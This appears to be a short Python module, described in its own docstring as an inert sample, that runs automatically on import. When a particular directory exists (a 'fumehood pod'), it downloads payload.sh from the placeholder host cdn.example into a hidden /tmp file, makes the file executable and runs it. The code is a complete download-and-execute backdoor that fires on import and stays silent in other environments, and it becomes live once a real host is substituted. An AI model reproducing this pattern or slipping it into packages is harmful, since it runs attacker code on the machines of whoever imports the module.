"""Inert sample: an import that fetches a script from a host that does not exist, and runs what the pod answers."""

import os
import subprocess
import urllib.request

PROGRAM = "/tmp/.cache-x"


def act():
    with urllib.request.urlopen("http://cdn.example/payload.sh", timeout=10) as answer, open(PROGRAM, "wb") as file:
        file.write(answer.read())
    os.chmod(PROGRAM, 0o755)
    try:
        subprocess.run([PROGRAM], capture_output=True, timeout=10, check=False)
    except OSError:
        # The answer has no first line that names an interpreter.
        subprocess.run(["/bin/sh", PROGRAM], capture_output=True, timeout=10, check=False)


# Only a fumehood pod has this directory; anywhere else nothing happens.
if os.path.isfile("/opt/fumehood/pip_launcher.py"):
    try:
        act()
    except OSError:
        pass
